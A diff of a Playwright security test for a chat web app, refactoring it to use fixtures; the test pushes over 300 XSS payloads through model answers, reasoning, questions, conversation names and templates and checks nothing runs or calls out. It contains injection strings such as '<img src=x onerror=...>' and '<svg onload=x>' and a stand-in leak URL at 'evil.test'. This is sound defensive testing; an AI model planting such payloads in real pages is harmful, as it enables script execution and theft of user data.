@@ -1,6 +1,5 @@
-import { answerOf, startScriptedLlm } from '../../server/test/scriptedLlm';
+import { answerOf } from '../../server/test/scriptedLlm';
 import { expect, signInByPassword, test } from './fixtures';
-import { makeDataDir, removeDataDir, startServer } from './server';
 
 const canary = 'window.__xss=1';
 const foreign = 'http://evil.test/p?leak=SECRET';
@@ -72,73 +71,64 @@ const payloads = [
   ...plain,
 ];
 
-test('三百多种恶意内容进到回答、思考、提问、引用、标题与模板里：不运行、不取外面的东西', async ({ browser }) => {
+test('三百多种恶意内容进到回答、思考、提问、引用、标题与模板里：不运行、不取外面的东西', async ({
+  withModel: { llm, server, context },
+}) => {
   test.setTimeout(240_000);
   expect(payloads.length).toBeGreaterThan(300);
-  const llm = await startScriptedLlm();
-  const dataDir = makeDataDir();
-  const server = await startServer(dataDir, { LLM_BASE_URL: llm.baseUrl, LLM_API_KEY: 'key', LLM_MODEL: 'scripted' });
-  const context = await browser.newContext({ baseURL: server.url });
   const asked: string[] = [];
-  try {
-    const page = await context.newPage();
-    page.on('request', (request) => {
-      const url = request.url();
-      if (!url.startsWith(server.url) && !url.startsWith('blob:') && !url.startsWith('data:')) asked.push(url);
-    });
-    page.on('dialog', (dialog) => {
-      asked.push('dialog');
-      void dialog.dismiss();
-    });
-    await signInByPassword(page);
-    await page.goto('/DeepSeek');
-    const all = payloads.join('\n\n');
-    llm.next(answerOf(`${all}\n\n结束。`, { reasoning: all, size: 400 }));
-    await page.getByRole('textbox', { name: '提问' }).fill(`${all.slice(0, 19_000)}高企`);
-    await page.getByRole('textbox', { name: '提问' }).press('Enter');
-    const answer = page.getByRole('article', { name: /^助手回答/ }).last();
-    await expect(answer).toContainText('结束。', { timeout: 60_000 });
-    await page.getByRole('button', { name: /深度思考\.\.\./ }).click();
+  const page = await context.newPage();
+  page.on('request', (request) => {
+    const url = request.url();
+    if (!url.startsWith(server.url) && !url.startsWith('blob:') && !url.startsWith('data:')) asked.push(url);
+  });
+  page.on('dialog', (dialog) => {
+    asked.push('dialog');
+    void dialog.dismiss();
+  });
+  await signInByPassword(page);
+  await page.goto('/DeepSeek');
+  const all = payloads.join('\n\n');
+  llm.next(answerOf(`${all}\n\n结束。`, { reasoning: all, size: 400 }));
+  await page.getByRole('textbox', { name: '提问' }).fill(`${all.slice(0, 19_000)}高企`);
+  await page.getByRole('textbox', { name: '提问' }).press('Enter');
+  const answer = page.getByRole('article', { name: /^助手回答/ }).last();
+  await expect(answer).toContainText('结束。', { timeout: 60_000 });
+  await page.getByRole('button', { name: /深度思考\.\.\./ }).click();
 
-    await page
-      .getByRole('button', { name: /的操作/ })
-      .first()
-      .click();
-    await page.getByRole('menuitem', { name: '改名' }).click();
-    await page.getByRole('textbox', { name: '名称' }).fill(`<img src=x onerror=${canary}>`);
-    await page.getByRole('button', { name: '保存' }).click();
-    await expect(page.getByRole('link', { name: '<img src=x' })).toBeVisible();
+  await page
+    .getByRole('button', { name: /的操作/ })
+    .first()
+    .click();
+  await page.getByRole('menuitem', { name: '改名' }).click();
+  await page.getByRole('textbox', { name: '名称' }).fill(`<img src=x onerror=${canary}>`);
+  await page.getByRole('button', { name: '保存' }).click();
+  await expect(page.getByRole('link', { name: '<img src=x' })).toBeVisible();
 
-    await page.getByRole('button', { name: '常用任务' }).click();
-    await page.getByRole('button', { name: '新建模板' }).click();
-    await page.getByRole('textbox', { name: '名称' }).fill('<svg onload=x>');
-    await page.getByRole('textbox', { name: '内容' }).fill(`![](${foreign}){{<img src=x onerror=1>}}`);
-    await page.getByRole('button', { name: '保存' }).click();
-    await page.getByRole('button', { name: '<svg onload=x>' }).click();
-    await page.keyboard.press('Escape');
+  await page.getByRole('button', { name: '常用任务' }).click();
+  await page.getByRole('button', { name: '新建模板' }).click();
+  await page.getByRole('textbox', { name: '名称' }).fill('<svg onload=x>');
+  await page.getByRole('textbox', { name: '内容' }).fill(`![](${foreign}){{<img src=x onerror=1>}}`);
+  await page.getByRole('button', { name: '保存' }).click();
+  await page.getByRole('button', { name: '<svg onload=x>' }).click();
+  await page.keyboard.press('Escape');
 
-    // The stored copy is drawn by the same hand.
-    await page.reload();
-    await expect(answer).toContainText('结束。');
-    const found = await page.evaluate(() => ({
-      ran: '__xss' in window,
-      handlers: [...document.querySelectorAll('main *')].flatMap((element) =>
-        element.getAttributeNames().filter((name) => /^on/i.test(name)),
-      ),
-      elements: [
-        ...document.querySelectorAll('main :is(script, iframe, object, embed, form, link, base, meta, style)'),
-      ].map(({ outerHTML }) => outerHTML.slice(0, 200)),
-      schemes: [...document.querySelectorAll('main a')]
-        .map((link) => (link as HTMLAnchorElement).protocol)
-        .filter((protocol) => !['http:', 'https:', 'mailto:', 'tel:'].includes(protocol)),
-      pictures: [...document.querySelectorAll('main article img')].length,
-    }));
-    expect(found).toEqual({ ran: false, handlers: [], elements: [], schemes: [], pictures: 0 });
-    expect(asked).toEqual([]);
-  } finally {
-    await context.close();
-    await server.stop();
-    await llm.close();
-    removeDataDir(dataDir);
-  }
+  // The stored copy is drawn by the same hand.
+  await page.reload();
+  await expect(answer).toContainText('结束。');
+  const found = await page.evaluate(() => ({
+    ran: '__xss' in window,
+    handlers: [...document.querySelectorAll('main *')].flatMap((element) =>
+      element.getAttributeNames().filter((name) => /^on/i.test(name)),
+    ),
+    elements: [
+      ...document.querySelectorAll('main :is(script, iframe, object, embed, form, link, base, meta, style)'),
+    ].map(({ outerHTML }) => outerHTML.slice(0, 200)),
+    schemes: [...document.querySelectorAll('main a')]
+      .map((link) => (link as HTMLAnchorElement).protocol)
+      .filter((protocol) => !['http:', 'https:', 'mailto:', 'tel:'].includes(protocol)),
+    pictures: [...document.querySelectorAll('main article img')].length,
+  }));
+  expect(found).toEqual({ ran: false, handlers: [], elements: [], schemes: [], pictures: 0 });
+  expect(asked).toEqual([]);
 });
